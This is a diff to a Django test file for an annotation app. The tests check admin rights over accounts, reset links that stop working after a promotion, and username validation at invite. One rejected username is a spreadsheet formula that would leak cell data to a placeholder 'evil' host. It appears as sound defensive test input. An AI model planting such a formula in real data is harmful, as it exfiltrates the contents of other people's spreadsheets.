@@ -1,10 +1,10 @@
 """Admin pages act only on accounts with fewer rights than the actor's (one rule:
 annotation.roles.manageable_users): an admin-group member never takes over staff or a superuser."""
 
+import html
 import re
 
 import pytest
-from django.contrib.auth.tokens import default_token_generator
 from django.core.exceptions import PermissionDenied
 from django.urls import reverse
 from django.utils.encoding import force_str
@@ -12,6 +12,7 @@ from django.utils.http import urlsafe_base64_decode
 
 from annotation.roles import ADMIN, CLINICIAN, RESEARCHER, role_add, user_can_manage
 from annotation.services import user_password_token_issue
+from annotation.tokens import password_token_generator
 
 from .conftest import make_clinician
 
@@ -68,7 +69,7 @@ def test_admin_group_member_gets_reset_links_for_clinicians_and_researchers(clie
         page = client.post(url).content.decode()
         uid, token = re.search(r"/accounts/set-password/([^/]+)/([^/]+)/", page).groups()
         assert force_str(urlsafe_base64_decode(uid)) == str(accounts[target].pk)
-        assert default_token_generator.check_token(accounts[target], token)
+        assert password_token_generator.check_token(accounts[target], token)
 
 
 def test_staff_gets_no_reset_link_for_a_superuser_but_a_superuser_does_for_staff(client, accounts):
@@ -101,3 +102,83 @@ def test_overview_offers_reset_links_only_for_manageable_clinicians(
     page = client.get(reverse("annotation:manage")).content.decode()
     assert reverse("annotation:manage_reset_link", args=[ordinary.user_id]) in page
     assert reverse("annotation:manage_reset_link", args=[boss.user_id]) not in page
+
+
+def _link_for(client, actor, target) -> str:
+    client.force_login(actor)
+    page = client.post(reverse("annotation:manage_reset_link", args=[target.pk])).content.decode()
+    client.logout()
+    return re.search(r"(/accounts/set-password/[^/]+/[^/]+/)", page).group(1)
+
+
+def _set_password_with(client, link: str, password: str) -> None:
+    form = client.get(link, follow=True)
+    client.post(form.redirect_chain[-1][0] if form.redirect_chain else link,
+                {"new_password1": password, "new_password2": password})  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "promotion",
+    [
+        pytest.param({"is_staff": True, "is_superuser": True}, id="staff-and-superuser"),
+        pytest.param({"is_staff": True}, id="staff"),
+        pytest.param({"group": ADMIN}, id="admin-group"),
+    ],
+)
+def test_a_set_password_link_dies_when_the_account_is_promoted(client, accounts, promotion):
+    promo = accounts["researcher"]
+    link = _link_for(client, accounts["admin"], promo)
+    # A superuser promotes the account after the link was handed out.
+    if "group" in promotion:
+        role_add(user=promo, role=promotion["group"])
+    else:
+        for flag, value in promotion.items():
+            setattr(promo, flag, value)
+        promo.save()
+    page = client.get(link, follow=True)
+    assert b"new_password1" not in page.content  # the page says the link is invalid
+    _set_password_with(client, link, "a-takeover-passphrase-91")
+    promo.refresh_from_db()
+    assert not promo.check_password("a-takeover-passphrase-91")
+    assert promo.check_password("pw-res")
+
+
+def test_a_set_password_link_still_works_while_the_rights_stay_the_same(client, accounts):
+    promo = accounts["researcher"]
+    link = _link_for(client, accounts["admin"], promo)
+    promo.first_name = "Renamed"  # not a change of rights
+    promo.save()
+    _set_password_with(client, link, "a-fresh-passphrase-1234")
+    promo.refresh_from_db()
+    assert promo.check_password("a-fresh-passphrase-1234")
+
+
+@pytest.mark.parametrize(
+    ("username", "said"),
+    [
+        ("Clin", "taken (as 'clin': usernames ignore case)"),
+        ("CLIN", "taken (as 'clin'"),
+        ("dora\tsmith", "may hold only letters, digits and @ . + - _"),
+        ('=HYPERLINK("http://evil/?"&A1)', "may hold only letters, digits"),
+        ("@SUM", "must start with a letter or a digit"),
+        ("-dora", "must start with a letter or a digit"),
+        ("d" * 151, "at most 150 characters"),
+        ("   ", "This field is required"),
+    ],
+)
+def test_invite_refuses_usernames_that_clash_or_could_mislead(
+    client, accounts, django_user_model, username, said
+):
+    client.force_login(accounts["admin"])
+    before = django_user_model.objects.count()
+    response = client.post(reverse("annotation:manage_invite"), {"username": username})
+    assert response.status_code == 422
+    assert said in html.unescape(response.content.decode())
+    assert django_user_model.objects.count() == before  # nothing half-made
+
+
+def test_invite_accepts_an_ordinary_new_username(client, accounts, django_user_model):
+    client.force_login(accounts["admin"])
+    response = client.post(reverse("annotation:manage_invite"), {"username": " dr.Lee-2 "})
+    assert response.status_code == 200
+    assert django_user_model.objects.filter(username="dr.Lee-2").exists()
